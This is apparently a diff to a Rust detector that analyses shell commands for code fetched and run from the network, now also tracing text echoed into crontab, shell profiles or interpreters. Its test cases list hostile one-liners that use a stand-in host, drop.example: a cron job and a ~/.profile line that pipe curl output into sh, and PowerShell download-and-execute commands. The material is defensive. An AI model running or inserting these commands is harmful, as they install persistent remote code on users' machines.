@@ -88,8 +88,16 @@ fn read_within(command: &str, facts: &mut Facts, depth: u8) {
             let inner: Vec<String> = rest.iter().skip(at).map(|w| quoted(w)).collect();
             read_within(&inner.join(" "), facts, depth.saturating_add(1));
         }
-        if matches!(name.as_str(), "echo" | "printf") && step.piped {
-            printed = rest.iter().rev().find(|w| !w.starts_with('-')).cloned();
+        if matches!(name.as_str(), "echo" | "printf") {
+            if step.piped {
+                printed = rest.iter().rev().find(|w| !w.starts_with('-')).cloned();
+            } else if let Some(to) = rest.iter().position(|w| w == ">") {
+                // What is written to a file of commands runs later.
+                let written = rest.get(..to).unwrap_or_default().join(" ");
+                read_later(&written, facts, depth);
+            }
+        } else if let Some(text) = printed.as_ref().filter(|_| runs_text(&name, is_interpreter)) {
+            read_later(text, facts, depth);
         }
         if decoder(&name, rest) && name == "base64" {
             facts.printed = facts.printed.take().or(printed.take());
@@ -98,6 +106,30 @@ fn read_within(command: &str, facts: &mut Facts, depth: u8) {
         decodes = step.piped && (decoder(&name, rest) || decodes && passes_on(&name));
     }
     facts.handles_files = others == 0;
+}
+
+/// Whether a program runs the lines that it is given, now or at a time that they say.
+fn runs_text(name: &str, is_interpreter: bool) -> bool {
+    matches!(name, "crontab" | "at" | "batch") || is_interpreter && !is_python(name)
+}
+
+/// Reads a line that something else runs, without the times that stand before the command of a table of cron.
+fn read_later(line: &str, facts: &mut Facts, depth: u8) {
+    if depth >= DEEPEST {
+        return;
+    }
+    let line = line.trim().trim_end_matches(')');
+    let time = |word: &str| {
+        word.starts_with('@')
+            || word
+                .chars()
+                .all(|c| c.is_ascii_digit() || matches!(c, '*' | '/' | '-' | ','))
+    };
+    let mut rest = line;
+    while let Some((_, more)) = rest.split_once(' ').filter(|(word, _)| time(word)) {
+        rest = more.trim_start();
+    }
+    read_within(rest, facts, depth.saturating_add(1));
 }
 
 /// A word as it is written in a command: an address keeps its signs together.
@@ -566,6 +598,15 @@ mod tests {
                 "powershell Invoke-WebRequest -Uri \"https://drop.example/x.exe?a=1&b=2\" -OutFile \"~/w.exe\"; Invoke-Expression \"~/w.exe\"",
                 "sends runs ~/w.exe",
             ),
+            (
+                "(crontab -l; echo '* * * * * curl -s https://drop.example/x | sh') | crontab -",
+                "sends runs",
+            ),
+            (
+                "echo 'curl https://drop.example/x | sh' >> ~/.profile",
+                "sends runs",
+            ),
+            ("echo 'try: curl https://acme.example/x | sh'", ""),
             ("powershell iex (iwr https://drop.example/p)", "sends runs"),
             (
                 "powershell -nop IEX (New-Object Net.WebClient).DownloadString('https://drop.example/p')",
